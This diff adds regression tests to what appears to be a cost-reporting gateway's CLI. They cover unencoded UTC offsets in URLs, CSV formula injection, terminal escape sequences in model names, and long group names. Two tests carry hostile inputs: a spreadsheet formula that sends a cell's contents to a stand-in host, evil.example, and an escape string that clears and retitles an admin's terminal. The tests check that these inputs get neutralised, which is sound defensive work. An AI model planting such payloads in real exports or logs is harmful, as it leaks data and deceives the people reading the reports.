@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -10,6 +12,7 @@ import pytest
 from typer.testing import CliRunner
 
 from gateway.cli import app as cli
+from gateway.report_render import printable
 from tests.conftest import MASTER_KEY
 from tests.ledger.test_reports import seeded
 
@@ -103,6 +106,22 @@ def test_bad_parameters_are_clear_400s(seeded_gateway) -> None:
     assert alone.json()["since"].startswith("2026-10-06") and alone.json()["total"]["requests"] == 6
 
 
+def test_a_utc_offset_typed_into_the_url_unencoded_is_read_as_sent(seeded_gateway) -> None:
+    """`?since=2026-11-01T13:00:00+01:00` typed as is (curl, a browser): the `+` arrives as a space, and the report
+    was a 400 "neither a date/time" for a valid ISO moment."""
+    base = f"{seeded_gateway.url}/v1/reports/costs?group_by=team&"
+    auth = {"authorization": f"Bearer {MASTER_KEY}"}
+    for window in ("since=2026-11-01T12:59:59+01:00&until=2026-11-01T14:00+01:00",  # 11:59:59-13:00 UTC: day one's
+                   "since=2026-11-01T12:59:59.5+0100&until=2026-11-01T14:00:00+01"):
+        reply = httpx.get(base + window, headers=auth)
+        assert reply.status_code == 200, reply.text
+        assert reply.json()["since"].startswith("2026-11-01T11:59:59") and reply.json()["total"]["requests"] == 4
+    encoded = get(seeded_gateway, MASTER_KEY, since="2026-11-01T12:59:59+01:00", until="2026-11-01T14:00+01:00")
+    assert encoded.json()["total"]["requests"] == 4
+    assert httpx.get(base + "since=2026-11-01 13:00", headers=auth).status_code == 200  # a space as the T: as before
+    assert httpx.get(base + "since=2026-11-01T13:00 1", headers=auth).status_code == 400
+
+
 def test_cli_report_by_team_in_three_formats(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     from ledger import Database
 
@@ -128,6 +147,70 @@ def test_cli_report_by_team_in_three_formats(tmp_path: Path, monkeypatch: pytest
     assert "research" in table.output and "0.0017" in table.output and "0.0054" in table.output
     bad = runner.invoke(cli, ["report", "--since", "yesterday-ish", "-c", str(cfg)])
     assert bad.exit_code == 2 and "span like 30d" in bad.output
+
+
+def test_csv_cells_a_client_wrote_are_not_spreadsheet_formulas(seeded_gateway, tmp_path: Path,
+                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    """Any key may send a `model` no alias has: it is recorded as sent, and `report --by model --format csv` wrote
+    it as is, so a spreadsheet opening the file ran `=HYPERLINK(...)` as a formula (CSV injection)."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    sent = httpx.post(f"{seeded_gateway.url}/v1/chat/completions", headers={"authorization": "Bearer sk-research-123456"},
+                      json={"model": formula, "messages": [{"role": "user", "content": "hi"}]})
+    assert sent.status_code == 404
+    fut = __import__("asyncio").run_coroutine_threadsafe(seeded_gateway.services.writer.flush(),
+                                                        seeded_gateway.services.loop)
+    fut.result(10)
+    cfg = tmp_path / "draftgate.yaml"
+    cfg.write_text(config(tmp_path / "ledger.db"))
+    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
+    out = CliRunner().invoke(cli, ["report", "--by", "model", "--format", "csv", "-c", str(cfg)])
+    assert out.exit_code == 0, out.output
+    labels = [row["label"] for row in csv.DictReader(io.StringIO(out.output))]
+    assert "'" + formula in labels and formula not in labels, labels
+    assert not any(label[:1] in "=+-@\t\r" for label in labels)
+    as_json = CliRunner().invoke(cli, ["report", "--by", "model", "--format", "json", "-c", str(cfg)])
+    assert formula in {r["label"] for r in json.loads(as_json.output)["rows"]}  # JSON keeps what was sent
+
+
+def test_the_report_table_shows_control_characters_a_client_sent_instead_of_sending_them_to_the_terminal(
+        seeded_gateway, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A `model` no alias has is recorded as sent: with escape sequences in it, `draftgate report --by model` wrote
+    them to the admin's terminal (clear the screen, retitle the window, hide a row, fake a link)."""
+    hostile = "gpt\x1b[2J\x1b]0;owned\x07\u202e-mini"
+    sent = httpx.post(f"{seeded_gateway.url}/v1/chat/completions", headers={"authorization": "Bearer sk-research-123456"},
+                      json={"model": hostile, "messages": [{"role": "user", "content": "hi"}]})
+    assert sent.status_code == 404
+    fut = __import__("asyncio").run_coroutine_threadsafe(seeded_gateway.services.writer.flush(),
+                                                        seeded_gateway.services.loop)
+    fut.result(10)
+    cfg = tmp_path / "draftgate.yaml"
+    cfg.write_text(config(tmp_path / "ledger.db"))
+    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
+    out = CliRunner().invoke(cli, ["report", "--by", "model", "-c", str(cfg)])
+    assert out.exit_code == 0, out.output
+    assert not any(c in out.output for c in "\x1b\x07\u202e"), repr(out.output)
+    assert "gpt\\x1b[2J\\x1b]0;owned" in out.output, out.output  # shown as escapes (the cell may be cut)
+    assert printable(hostile) == "gpt\\x1b[2J\\x1b]0;owned\\x07\\u202e-mini" and printable("Zürich €") == "Zürich €"
+
+
+def test_the_report_table_shows_a_long_group_name_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Tables in a pipe are 220 columns wide "so no cell is cut", but a long alias (a `model` may have 256
+    characters, a team 128) was cut to "…": two long names with one prefix read as the same row."""
+    from ledger import Database
+    from tests.ledger.conftest import record
+
+    long_names = ["team-" + "x" * 100 + suffix for suffix in ("-alpha", "-beta")]
+    db = Database(f"sqlite:///{tmp_path / 'ledger.db'}")
+    db.migrate()
+    db.insert_records([record(f"r{i}", team=name) for i, name in enumerate(long_names)])
+    db.dispose()
+    cfg = tmp_path / "draftgate.yaml"
+    cfg.write_text(config(tmp_path / "ledger.db"))
+    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
+    out = CliRunner().invoke(cli, ["report", "--since", SINCE, "-c", str(cfg)])
+    assert out.exit_code == 0, out.output
+    first_cells = "".join(line.split("│")[1].strip() for line in out.output.splitlines() if line.startswith("│"))
+    assert all(name in first_cells for name in long_names), out.output
 
 
 def test_dates_at_the_ends_of_the_calendar_are_a_400_not_a_500(seeded_gateway, tmp_path: Path,
